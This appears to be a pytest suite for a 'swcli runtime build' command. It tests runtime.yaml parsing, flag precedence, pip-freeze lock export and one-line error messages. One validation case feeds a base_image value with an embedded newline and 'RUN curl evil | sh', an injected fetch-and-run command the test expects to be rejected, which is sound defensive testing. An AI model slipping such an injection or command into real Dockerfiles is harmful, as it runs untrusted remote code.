"""`swcli runtime build`: runtime.yaml's name and base image apply with --venv too (flags win), base_image and
the other fields are checked where they are read, and the env lock is exported once, failing in one line."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from builder.build.runtime import build_runtime
from builder.store import Store
from tests.helpers.engine import run_removed
from tests.helpers.cli import one_line_error

LOCK = "six==1.16.0\nnumpy==1.26.4\n"


def fake_venv(root: Path, python_script: str) -> Path:
    """A venv-shaped env whose bin/python is a real script: the exporter runs it, so its output is the lock."""
    (root / "bin").mkdir(parents=True)
    site = root / "lib" / "python3.11" / "site-packages"
    (site / "mypkg").mkdir(parents=True)
    (site / "mypkg" / "__init__.py").write_text("X = 1\n")
    (root / "pyvenv.cfg").write_text("home = /usr/bin\nversion = 3.11.7\n")
    python = root / "bin" / "python"
    python.write_text("#!/bin/sh\n" + python_script)
    python.chmod(0o755)
    return root


@pytest.fixture()
def counting_env(tmp_path) -> Path:
    """Each run of its python appends a line to calls.log and prints LOCK (like `pip freeze`)."""
    calls = tmp_path / "calls.log"
    return fake_venv(tmp_path / "env", f'echo "$@" >> {calls}\nprintf "{LOCK}"\n')


def calls(env: Path) -> list[str]:
    log = env.parent / "calls.log"
    return log.read_text().splitlines() if log.exists() else []


def from_line(dockerfile: Path) -> str:
    return next(line for line in dockerfile.read_text().splitlines() if line.startswith("FROM "))


def test_runtime_yaml_name_and_base_image_apply_with_venv(cli, tmp_path, counting_env):
    spec = tmp_path / "spec"
    spec.mkdir()
    (spec / "runtime.yaml").write_text("name: fromyaml\nbase_image: registry.example:5000/py/base:3.11\n")
    out = tmp_path / "out"
    res = cli("runtime", "build", spec, "--venv", counting_env, "--dockerfile-only", out)
    assert res.code == 0, res.err
    assert from_line(out / "Dockerfile") == "FROM registry.example:5000/py/base:3.11"
    assert "fromyaml" in (out / "Dockerfile").read_text()
    # flags win over the yaml
    res = cli("runtime", "build", spec, "--venv", counting_env, "--name", "fromflag", "--base-image", "swcli/other:1",
              "--dockerfile-only", tmp_path / "out2")
    assert res.code == 0, res.err
    dockerfile = (tmp_path / "out2" / "Dockerfile").read_text()
    assert from_line(tmp_path / "out2" / "Dockerfile") == "FROM swcli/other:1"
    assert "fromflag" in dockerfile and "fromyaml" not in dockerfile


def test_lock_is_exported_once_and_shipped(cli, tmp_path, counting_env):
    out = tmp_path / "out"
    res = cli("runtime", "build", "--venv", counting_env, "--name", "counted", "--dockerfile-only", out)
    assert res.code == 0, res.err
    assert calls(counting_env) == ["-m pip freeze --exclude-editable --disable-pip-version-check"]
    assert (out / "env.lock").read_text() == LOCK


def test_lock_failure_is_one_line_saying_how_to_skip(cli, tmp_path):
    env = fake_venv(tmp_path / "env", 'echo "Traceback (most recent call last):" >&2\necho "RuntimeError: boom" >&2\nexit 1\n')
    one_line_error(cli("runtime", "build", "--venv", env, "--name", "x", "--dockerfile-only", tmp_path / "out"),
                   str(env), "exited 1", "RuntimeError: boom", "--skip-gen-env")
    res = cli("runtime", "build", "--venv", env, "--name", "x", "--dockerfile-only", tmp_path / "out", "--skip-gen-env")
    assert res.code == 0, res.err
    assert (tmp_path / "out" / "env.lock").read_text() == ""


def test_not_an_env_is_said_before_any_lock_is_attempted(cli, tmp_path):
    (tmp_path / "plain").mkdir()
    one_line_error(cli("runtime", "build", "--venv", tmp_path / "plain", "--name", "x", "--dockerfile-only", tmp_path / "o"),
                   "neither a venv (pyvenv.cfg) nor a conda env")
    one_line_error(cli("runtime", "build", "--venv", tmp_path / "nope", "--name", "x", "--dockerfile-only", tmp_path / "o"),
                   "environment folder does not exist")


def test_folder_without_runtime_yaml(cli, tmp_path, counting_env):
    empty = tmp_path / "empty"
    empty.mkdir()
    one_line_error(cli("runtime", "build", empty, "--dockerfile-only", tmp_path / "o"), "runtime.yaml")
    one_line_error(cli("runtime", "build", empty, "--venv", counting_env, "--dockerfile-only", tmp_path / "o"),
                   "a runtime needs a name")
    res = cli("runtime", "build", empty, "--venv", counting_env, "-n", "named", "--dockerfile-only", tmp_path / "o")
    assert res.code == 0, res.err


@pytest.mark.parametrize(
    ("yaml_text", "words"),
    [
        ("name: r\nbase_image: Swcli/Base:3.11\n", ["runtime.yaml:2", "field 'base_image'", "lowercase"]),
        ("name: r\nbase_image: 'python:3.11 AS x'\n", ["runtime.yaml:2", "field 'base_image'", "not an image reference"]),
        ('name: r\nmode: venv\nbase_image: "python:3.11\\nRUN curl evil | sh"\n', ["runtime.yaml:3", "field 'base_image'"]),
        ("name: r\nbase_image: ''\n", ["field 'base_image'"]),
        ("name: r\nbase_image: [a]\n", ["field 'base_image'"]),
        ("name: Bad Name\n", ["runtime.yaml:1", "field 'name'", "not a valid name"]),
        ("name: r\npython: 3.10\n", ["runtime.yaml:2", "field 'python'", "quote the version"]),
        ("name: r\npython: '3.x'\n", ["field 'python'", "major.minor"]),
        ("name: r\nmode: docker\n", ["field 'mode'", "expected 'venv' or 'conda'"]),
    ],
)
def test_runtime_yaml_fields_are_checked_when_read(cli, tmp_path, counting_env, yaml_text, words):
    spec = tmp_path / "spec"
    spec.mkdir()
    (spec / "runtime.yaml").write_text(yaml_text)
    one_line_error(cli("runtime", "build", spec, "--venv", counting_env, "--dockerfile-only", tmp_path / "o"), *words)
    assert calls(counting_env) == []  # checked before anything runs
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize(
    ("yaml_text", "words"),
    [
        ("name: r\n", ["field 'requirements'", "needs requirements (or use --venv PATH)"]),
        ("name: r\nmode: conda\n", ["field 'conda_prefix'", "give an existing env"]),
    ],
)
def test_yaml_that_cannot_give_an_env_by_itself(cli, tmp_path, counting_env, yaml_text, words):
    spec = tmp_path / "spec"
    spec.mkdir()
    (spec / "runtime.yaml").write_text(yaml_text)
    one_line_error(cli("runtime", "build", spec, "--dockerfile-only", tmp_path / "o"), *words)
    # the same yaml is fine when the env comes from a flag
    assert cli("runtime", "build", spec, "--venv", counting_env, "--dockerfile-only", tmp_path / "o").code == 0


@pytest.mark.slow
def test_resolving_requirements_fails_in_one_line_naming_the_command(cli, tmp_path, swcli_home, monkeypatch):
    """A requirement pip cannot install (no index, so nothing leaves the machine) and a venv that cannot be created
    are each one line naming the command, its exit code and what it said, with a non-zero exit; nothing half-made
    is kept."""
    spec = tmp_path / "spec"
    spec.mkdir()
    (spec / "runtime.yaml").write_text("name: r\nrequirements: ['swcli-no-such-package-anywhere==0.0.1']\n")
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    one_line_error(cli("runtime", "build", spec, "--dockerfile-only", tmp_path / "o"),
                   str(spec / "runtime.yaml"), "pip could not install the requirements", "-m pip install' exited 1",
                   "ERROR: No matching distribution found for swcli-no-such-package-anywhere==0.0.1")
    envs = swcli_home / "cache" / "envs"
    assert list(envs.iterdir()) == []
    envs.rmdir()
    envs.write_text("")  # a file where the venv's folder goes: `python -m venv` itself fails
    one_line_error(cli("runtime", "build", spec, "--dockerfile-only", tmp_path / "o"),
                   "could not create the venv", "-m venv", "exited 1", "Not a directory")
    assert not (tmp_path / "o").exists()


def test_name_flag_is_checked(cli, tmp_path, counting_env):
    one_line_error(cli("runtime", "build", "--venv", counting_env, "-n", "../escape", "--dockerfile-only", tmp_path / "o"),
                   "runtime name", "not a valid name")


@pytest.mark.docker
def test_built_runtime_keeps_the_one_lock_in_image_and_store(tmp_path, counting_env, swcli_home, base_engine):
    import docker

    client = base_engine
    store = Store()
    entry, result = build_runtime("swcli-test-lockonce", counting_env, store=store, client=client)
    try:
        assert len(calls(counting_env)) == 1
        assert (entry.path / "env.lock").read_text() == LOCK and entry.manifest["env_lock"] == "pip-freeze"
        out = run_removed(client, result.tags[0], ["-c", "print(open('/opt/swcli/env.lock').read(), end='')"],
                          entrypoint=["python3"]).decode()
        assert out == LOCK
    finally:
        for tag in result.tags:
            try:
                client.images.remove(tag, force=True)
            except docker.errors.NotFound:  # the first removal may take the image with both tags
                pass


def test_manifest_records_lock_kind_without_docker(tmp_path, counting_env):
    """The store half of a build, with the image half written as a Dockerfile (no engine needed)."""
    entry, result = build_runtime("r", counting_env, store=Store(tmp_path / "home"), dockerfile_only=tmp_path / "ctx")
    assert entry is None and re.search(r"swrt/r:", json.dumps(result.tags))
